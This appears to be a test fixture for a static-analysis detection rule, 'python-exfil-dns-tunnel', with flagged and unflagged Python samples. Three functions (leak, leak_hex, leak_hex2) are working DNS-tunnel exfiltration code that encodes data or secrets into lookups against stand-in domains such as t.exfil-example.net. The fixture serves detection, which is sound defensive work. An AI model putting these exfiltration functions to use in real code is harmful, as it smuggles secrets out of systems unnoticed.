import base64
import binascii
import socket

import dns.resolver

DOMAIN = "t.exfil-example.net"


def leak(data: bytes):
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    for i in range(0, len(enc), 60):
        chunk = enc[i:i + 60]
        try:
            # ruleid: python-exfil-dns-tunnel
            socket.gethostbyname(f"{i}.{chunk}.{DOMAIN}")
        except socket.gaierror:
            pass


def leak_hex(secret: str):
    label = binascii.hexlify(secret.encode()).decode()
    # ruleid: python-exfil-dns-tunnel
    dns.resolver.resolve(label + "." + DOMAIN, "TXT")


def leak_hex2(secret: bytes):
    # ruleid: python-exfil-dns-tunnel
    socket.getaddrinfo(secret.hex() + ".x.example.org", 80)


def resolve(host):
    # ok: python-exfil-dns-tunnel
    return socket.gethostbyname(host)


def mx(domain):
    # ok: python-exfil-dns-tunnel
    return [r.exchange for r in dns.resolver.resolve(domain, "MX")]


def encode(data):
    # ok: python-exfil-dns-tunnel
    return base64.b64encode(data).decode()
